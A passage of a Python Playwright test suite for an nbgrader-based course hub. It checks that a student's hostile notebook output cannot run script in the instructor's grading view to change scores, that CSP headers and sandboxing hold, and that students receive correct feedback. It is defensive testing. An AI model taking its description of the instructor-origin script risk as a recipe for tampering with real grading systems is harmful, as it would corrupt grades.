    set every score to 36 + 6 from Formgrader's manual grading view, which nbgrader renders in the
    instructor's origin. The grading made them inert (autograder/grader/pages/inert.py), the page's own policy
    refuses any other script (autograder/grader/hub/formgrader_csp.py), and feedback pages opened from /files/
    run in a sandbox of their own."""
    started = time.monotonic()
    page = sessions(INSTRUCTOR)
    scores = "SELECT id, manual_score, extra_credit FROM grade ORDER BY id"
    before = gradebook(hub, scores)
    [(submission,)] = gradebook(hub, "SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
                                     "ON sn.assignment_id = sa.id WHERE sa.student_id = 'cy'")
    refused = []
    page.on("console", lambda message: refused.append(message.text) if "Content Security Policy" in message.text
            else None)
    command(page, "nbgrader:open-formgrader")
    view = page.locator("#formgrader-iframe iframe").element_handle().content_frame()
    formgrade = view.goto(f"{hub.base}/user/{INSTRUCTOR}/formgrader/submissions/{submission}/?index=0")
    frame = page.frame_locator("#formgrader-iframe iframe")
    # Formgrader's own scripts ran, their inline parts by hash: the score inputs show the autograded points
    # (formgrade.js reads the page's inline values), and the eye's onclick shows the student's name.
    expect(frame.locator("input.score").first).to_have_attribute("placeholder", re.compile(r"^\d"))
    frame.locator("span.glyphicon-eye-open").click()
    expect(frame.locator("a.name-shown")).to_contain_text("Carter, Cy")
    expect(frame.locator(".output_html b", has_text="bold output")).to_be_visible()  # cy's work still shows
    expect(frame.locator("h2", has_text="My notes")).to_be_visible()
    frame.get_by_text("click me").click()  # a javascript: link, once
    time.sleep(3)
    page.screenshot(path=ARTIFACTS / "cy-manual-grading.png")
    # cy's feedback page, as the instructor opens it from the course folder.
    feedback = page.context.new_page()
    response = feedback.goto(f"{hub.base}/user/{INSTRUCTOR}/files/feedback/cy/{ASSIGNMENT}/{ASSIGNMENT}.html")
    sandboxed = response.header_values("content-security-policy")
    expect(feedback.locator(".output_html b", has_text="bold output")).to_be_visible()
    time.sleep(2)
    feedback.close()
    (ARTIFACTS / "csp-refusals.json").write_text(json.dumps(refused, indent=1))
    assert sorted(p.name for p in hub.course.rglob("pwned-*")) == []
    assert gradebook(hub, scores) == before  # no 36 + 6 anywhere
    # The feedback page runs in a sandbox of its own origin: jupyter_server's /files/ adds it to the hub's policy.
    assert sandboxed == ["frame-ancestors 'self'; sandbox allow-scripts"]
    # Formgrader's page: two policies, both enforced; the proxy hands them on as one header, a comma between
    # them (CSP's own syntax). No script of Formgrader's own was refused (the MathJax CDN is).
    policies = [p.strip() for value in formgrade.header_values("content-security-policy") for p in value.split(",")]
    assert policies[0] == "frame-ancestors 'self'", policies  # the hub's, kept
    assert policies[1].startswith(f"script-src {hub.base}/user/{INSTRUCTOR}/formgrader/static/ 'unsafe-hashes' "
                                  "'sha256-"), policies
    assert not [m for m in refused if "inline" in m], refused
    step_time("cy's submission in Formgrader and feedback", started)


# === 6. the students read their feedback ================================================================

@pytest.mark.parametrize("student", STUDENTS)
def test_students_fetch_their_feedback(sessions, hub, student):
    started = time.monotonic()
    page = sessions(student)
    assignment_list(page)
    row = list_rows(page, "submitted").filter(has_text=ASSIGNMENT)
    row.get_by_role("button", name="Fetch Feedback").click()
    expect(row.get_by_text("(view feedback)")).to_be_visible()
    expect(row).to_contain_text("LATE: after the due date" if EXPECTED[student][1] else "on time (due ")
    # "(view feedback)" opens the page itself (issue 22: it only moved the file browser to a folder).
    row.get_by_text("(view feedback)").click()
    viewer = page.frame_locator(".jp-HTMLViewer:not(.lm-mod-hidden) iframe")
    expect(viewer.locator("body")).to_contain_text(f"{ASSIGNMENT} (Score:")
    if student == "ada":
        page.screenshot(path=DOCS / "hub-fetch-feedback.png")
    [html] = Path(f"~{student}").expanduser().glob(f"{ASSIGNMENT}/feedback/*/{ASSIGNMENT}.html")
    relative = html.relative_to(Path(f"~{student}").expanduser())
    feedback = page.context.new_page()
    feedback.goto(f"{hub.base}/user/{student}/files/{relative}")
    text = " ".join(feedback.locator("body").inner_text().split())
    score, penalty = EXPECTED[student]
    assert f"{ASSIGNMENT} (Score: {score - penalty:.1f} / 3.0)" in text, text[:500]
    if penalty:  # ben: full marks, less the penalty for the time the exchange recorded
        assert f"Late submission penalty (Score: -{penalty:.1f})" in text
        feedback.screenshot(path=DOCS / "hub-feedback-late.png", full_page=True)
    content = feedback.content()
    assert MARKER not in content and "HIDDEN TESTS" not in content
    if student == "ada":
        assert "Expected the value 42, found 7" in text  # the hidden test's message reached her
        feedback.screenshot(path=ARTIFACTS / "ada-feedback.png", full_page=True)  # as docs/feedback.png
    feedback.close()
    step_time(f"{student}: feedback", started)


# === the hub's own guard =====================================================================================

def test_the_hub_refuses_to_start_while_a_student_could_open_the_course(hub):
    from autograder import UserError
    from autograder.grader.hub.course_hub import check_host

    mode = hub.course.stat().st_mode
    os.chmod(hub.course, 0o755)
    try:
        with pytest.raises(UserError, match=f"the student '(ada|ben|cy)' can open {hub.course}; make the course"):
            check_host(hub.layout)
    finally:
        os.chmod(hub.course, mode)
    check_host(hub.layout)  # private again: nothing to say
